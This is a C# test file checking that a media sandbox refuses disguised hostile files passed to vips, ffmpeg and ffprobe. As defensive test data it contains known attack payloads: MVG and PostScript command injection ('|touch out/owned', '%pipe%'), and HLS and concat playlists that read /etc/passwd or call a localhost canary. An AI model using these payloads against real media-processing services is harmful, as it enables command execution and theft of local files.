using System.Text;
using MediaNode.Formats.Inspection;
using MediaNode.Sandboxing;
using MediaNode.Sandboxing.Tools;
using Shouldly;
using Xunit;

namespace MediaNode.Tests.Sandboxing;

/// <summary>
/// Files that name one thing and are another, given to the tools as if inspection had been fooled. Without a box, so that it is the
/// command line which holds, and the canary could be reached.
/// </summary>
public sealed class HostileMediaTests : IDisposable
{
    private readonly Box _open = new(SandboxMode.Off);
    private readonly Canary _canary = new();

    public void Dispose()
    {
        _canary.Silent.ShouldBeTrue();
        _canary.Dispose();
        _open.Dispose();
    }

    public static TheoryData<string, string> Pictures => new()
    {
        { "MVG", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1:PORT/\"|touch out/owned\")'\npop graphic-context\n" },
        { "SVG", "<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink' width='9' height='9'><image x:href='http://127.0.0.1:PORT/' width='9' height='9'/></svg>" },
        { "PostScript", "%!PS-Adobe-3.0\n(out/owned) (w) file closefile\nshowpage\n" },
        { "EPS", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%touch out/owned) (w) file\nshowpage\n" },
        { "MSL", "<?xml version='1.0'?><image><read filename='http://127.0.0.1:PORT/x.png'/><write filename='out/owned'/></image>" },
        { "PDF", "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/MediaBox[0 0 9 9]/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n" },
    };

    [Theory]
    [MemberData(nameof(Pictures))]
    public async Task A_picture_that_is_something_else_is_not_decoded_as_that(string what, string text)
    {
        var file = _open.Write("x.png", text.Replace("PORT", $"{_canary.Port}", StringComparison.Ordinal));
        foreach (var container in (Container[])[Container.Png, Container.Jpeg, Container.WebP, Container.Gif, Container.Heic, Container.Tiff])
        {
            var loader = PictureLoader.For(container)!;

            (await _open.RunAsync(Tool.Vips, Vips.Load(loader, "out/x.jpg"), file)).ShouldBeOfType<RunResult.Failed>($"{what} by {loader.Operation}");
        }

        (await _open.RunAsync(Tool.Vips, Vips.Thumbnail(PictureLoader.For(Container.Png)!, "in/0", "out/x.jpg", 50, 50), file)).ShouldBeOfType<RunResult.Failed>(what);
        Directory.GetFileSystemEntries(_open.Scratch.Output).ShouldBeEmpty(what);
    }

    [Theory]
    [InlineData(Container.Pdf)]
    [InlineData(Container.Svg)]
    [InlineData(Container.PostScript)]
    [InlineData(Container.Playlist)]
    [InlineData(Container.Html)]
    [InlineData(Container.Unknown)]
    [InlineData(Container.Asf)]
    public void No_decoder_is_named_for_what_is_not_on_the_list(Container container)
    {
        MediaFormat.For(container).ShouldBeNull();
        PictureLoader.For(container).ShouldBeNull();
    }

    public static TheoryData<string, string> Playlists => new()
    {
        { "HLS over http", "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nhttp://127.0.0.1:PORT/a.ts\n#EXT-X-ENDLIST\n" },
        { "HLS of a file", "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n" },
        { "HLS by concat", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nconcat:http://127.0.0.1:PORT/?|file:///etc/passwd\n#EXT-X-ENDLIST\n" },
        { "a concat script", "ffconcat version 1.0\nfile /etc/passwd\nfile http://127.0.0.1:PORT/a\n" },
        { "a DASH manifest", "<?xml version='1.0'?><MPD xmlns='urn:mpeg:dash:schema:mpd:2011'><Period><BaseURL>http://127.0.0.1:PORT/</BaseURL></Period></MPD>" },
        { "an SDP", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\n" },
    };

    [Theory]
    [MemberData(nameof(Playlists))]
    public async Task A_playlist_named_as_a_video_opens_nothing(string what, string text)
    {
        var file = _open.Write("x.mp4", text.Replace("PORT", $"{_canary.Port}", StringComparison.Ordinal));
        foreach (var container in (Container[])[Container.Mp4, Container.Ogg, Container.Matroska, Container.Avi, Container.MpegTs, Container.Wav])
        {
            var format = MediaFormat.For(container)!;
            (await _open.RunAsync(Tool.Ffmpeg, Ffmpeg.Arguments(format, ["out/x.mp4"]), file)).ShouldBeOfType<RunResult.Failed>($"{what} as {format.Demuxer}");
        }

        (await _open.RunAsync(Tool.Ffprobe, Ffprobe.Arguments(MediaFormat.For(Container.Mp4)!), file)).ShouldBeOfType<RunResult.Failed>(what);
        _canary.Silent.ShouldBeTrue(what);
    }

    [Fact]
    public async Task The_canary_sings_when_ffmpeg_is_told_to_go_out()
    {
        using var canary = new Canary();
        var limits = Box.Limits with { Deadline = TimeSpan.FromSeconds(3) };
        string[] arguments = ["-v", "error", "-nostdin", "-i", $"http://127.0.0.1:{canary.Port}/a.ts", "-f", "null", "-"];

        using (var box = new Box())
        {
            await box.Sandbox.RunAsync(box.Run(Tool.Ffmpeg, arguments) with { Limits = limits }, CancellationToken.None);
            canary.Silent.ShouldBeTrue();
        }

        await _open.Sandbox.RunAsync(_open.Run(Tool.Ffmpeg, arguments) with { Limits = limits }, CancellationToken.None);
        canary.Silent.ShouldBeFalse();
    }

    [Fact]
    public async Task A_playlist_hidden_in_the_subtitles_of_an_avi_opens_nothing()
    {
        var avi = File.ReadAllBytes(await _open.SampleAsync("a.avi", "-f", "lavfi", "-i", "testsrc=s=64x64:d=0.2", "-c:v", "mpeg4"));
        // GAB2, the marker of a subtitle in an AVI's text stream, whose content ffmpeg would open by guessing.
        var text = Encoding.ASCII.GetBytes($"GAB2\0\x02\0#EXTM3U\n#EXTINF:1,\nhttp://127.0.0.1:{_canary.Port}/a.ts\n");
        var at = avi.AsSpan().IndexOf("JUNK"u8);
        text.CopyTo(avi, at + 8);
        var file = _open.Write("b.avi", avi);

        (await _open.RunAsync(Tool.Ffmpeg, Ffmpeg.Arguments(MediaFormat.For(Container.Avi)!, ["-c", "copy", "out/x.avi"]), file)).ShouldBeOfType<RunResult.Done>();

        _canary.Silent.ShouldBeTrue();
    }

    [Theory]
    [InlineData("x.avi", Container.Avi, "magicyuv")]
    [InlineData("x.mov", Container.Mp4, "magicyuv")]
    [InlineData("y.mov", Container.Mp4, "qtrle")]
    [InlineData("z.avi", Container.Avi, "ffv1")]
    public async Task A_codec_that_is_not_on_the_list_is_not_decoded_and_is_named(string name, Container container, string codec)
    {
        var file = await _open.SampleAsync(name, "-f", "lavfi", "-i", "testsrc=s=64x64:d=0.2", "-c:v", codec);
        var format = MediaFormat.For(container)!;

        var probed = (await _open.RunAsync(Tool.Ffprobe, Ffprobe.Arguments(format), file)).ShouldBeOfType<RunResult.Failed>();
        Ffprobe.ForbiddenCodec(probed.Errors).ShouldBe(codec);

        var decoded = (await _open.RunAsync(Tool.Ffmpeg, Ffmpeg.Arguments(format, ["out/x.mp4"]), file)).ShouldBeOfType<RunResult.Failed>();
        Ffprobe.ForbiddenCodec(decoded.Errors).ShouldBe(codec);
    }

    [Fact]
    public async Task A_format_is_forced_even_on_a_good_file_of_another()
    {
        var file = await _open.SampleAsync("x.mkv", "-f", "lavfi", "-i", "testsrc=s=64x64:d=0.2", "-c:v", "libx264");

        var failed = (await _open.RunAsync(Tool.Ffprobe, Ffprobe.Arguments(MediaFormat.For(Container.Mp4)!), file)).ShouldBeOfType<RunResult.Failed>();

        Ffprobe.ForbiddenCodec(failed.Errors).ShouldBeNull();
    }

    [Fact]
    public async Task A_broken_colour_profile_crashes_nothing()
    {
        using var box = new Box();
        var jpeg = File.ReadAllBytes(await box.SampleAsync("x.jpg", "-f", "lavfi", "-i", "testsrc=s=64x64", "-frames:v", "1"));
        byte[] profile = [.. "ICC_PROFILE\0\x01\x01"u8, .. Enumerable.Repeat((byte)0xF7, 600)];
        byte[] broken = [0xFF, 0xD8, 0xFF, 0xE2, (byte)((profile.Length + 2) >> 8), (byte)((profile.Length + 2) & 0xFF), .. profile, .. jpeg[2..]];
        var file = box.Write("broken.jpg", broken);
        var loader = PictureLoader.For(Container.Jpeg)!;

        foreach (var arguments in (IReadOnlyList<string>[])[Vips.Load(loader, "out/a.jpg"), Vips.Thumbnail(loader, "in/0", "out/b.jpg", 32, 32)])
        {
            var result = await box.RunAsync(Tool.Vips, arguments, file);
            (result is RunResult.Done or RunResult.Failed { ExitCode: < 128 }).ShouldBeTrue(result.ToString());
        }
    }
}
